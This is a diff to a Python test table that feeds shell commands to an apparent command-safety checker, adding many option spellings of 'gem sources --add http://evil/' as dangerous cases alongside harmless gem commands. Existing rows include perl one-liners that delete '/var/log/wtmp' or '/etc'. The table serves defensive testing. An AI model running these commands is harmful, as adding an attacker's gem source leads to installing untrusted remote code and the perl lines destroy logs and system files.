@@ -34,6 +34,14 @@ ROWS = [
         "\"ExtUtils::Command'rm_f\" /var/log/wtmp")),
     ("perl \"-MExtUtils'Command'MM\" -e uninstall /etc", True),
     ("perl \"-MExtUtils'Command\" -e rm_rf build", False), ("perl -e \"print 'a'\"", False),
+    # finding 10: `gem sources --add` by OptionParser's spellings
+    *((f"gem {verb} {opts}", True) for verb in ("sources", "so", "sou?") for opts in (
+        "-ahttp://evil/", "-la http://evil/", "-lahttp://evil/", "-ca http://evil/",
+        "-c -ahttp://evil/", "-fa http://evil/", "-Va http://evil/", "--ad=http://evil/")),
+    # honest: listing, clearing, updating, removing (`-ra`: `a` is the removed source)
+    *((f"gem sources {opts}", False) for opts in ("-l", "--list", "-c", "-u", "-ra http://evil/",
+                                                   "-r https://rubygems.org/")),
+    ("gem install rails", False),
 ]
 
 
